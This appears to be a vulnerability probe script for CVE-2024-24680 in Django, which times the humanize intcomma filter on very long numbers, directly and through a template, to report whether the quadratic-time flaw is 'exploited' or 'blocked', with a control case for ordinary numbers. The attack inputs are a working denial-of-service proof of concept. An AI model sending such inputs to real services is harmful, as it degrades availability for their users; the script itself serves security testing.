# /// vertice-probe
# id = "PYSEC-2024-28"
# aliases = ["CVE-2024-24680"]
# package = "django"
# summary = "intcomma searches the whole number again for each comma, so a long number takes quadratic time."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-400", "CWE-1333"]
# kind = "redos"
# symbols = ["django.contrib.humanize.templatetags.humanize.intcomma", "django.contrib.humanize"]
#
# [[affected]]
# package = "django"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "3.2" },
#   { fixed = "3.2.24" },
#   { introduced = "4.2" },
#   { fixed = "4.2.10" },
#   { introduced = "5.0" },
#   { fixed = "5.0.2" },
# ] }]
#
# [cases]
# attack = "intcomma of a long number takes quadratic time"
# [cases.variants]
# template = "the filter in a template, for a negative number with decimals and text"
# [cases.controls]
# numbers = "ordinary numbers get their commas"
#
# [test]
# vulnerable = "4.2.9"
# fixed = "4.2.10"
# ///
"""CVE-2024-24680: quadratic time in intcomma."""

import json
import sys
import time


def prepare(**more):
    import django
    from django.conf import settings

    settings.configure(SECRET_KEY="probe", USE_I18N=False, **more)
    django.setup()


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def check(text, output):
    if output.replace(",", "") != text or "," not in output:
        raise RuntimeError("unexpected output %r" % output[:60])
    return "commas set"


def attack():
    prepare()
    from django.contrib.humanize.templatetags.humanize import intcomma

    sys.setrecursionlimit(50000)  # before the fix it calls itself for each comma
    return judge(lambda size: check("1" * size, intcomma("1" * size, use_l10n=False)), 2000, 16000, 20, "digits")


def template():
    prepare(
        INSTALLED_APPS=["django.contrib.humanize"],
        TEMPLATES=[{"BACKEND": "django.template.backends.django.DjangoTemplates"}],
    )
    from django.template import Context, Template

    sys.setrecursionlimit(50000)
    page = Template("{% load humanize %}{{ n|intcomma }}")

    def work(size):
        text = "-" + "9" * size + ".5 EUR"
        return check(text, page.render(Context({"n": text})))

    return judge(work, 2000, 16000, 20, "digits")


def numbers():
    prepare()
    from django.contrib.humanize.templatetags.humanize import intcomma

    got = [intcomma(value) for value in (100, 1234567, "10311", "-1234567.1234567")]
    return ("works" if got == ["100", "1,234,567", "10,311", "-1,234,567.1234567"] else "broken"), repr(got)


CASES = {"attack": attack, "template": template, "numbers": numbers}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
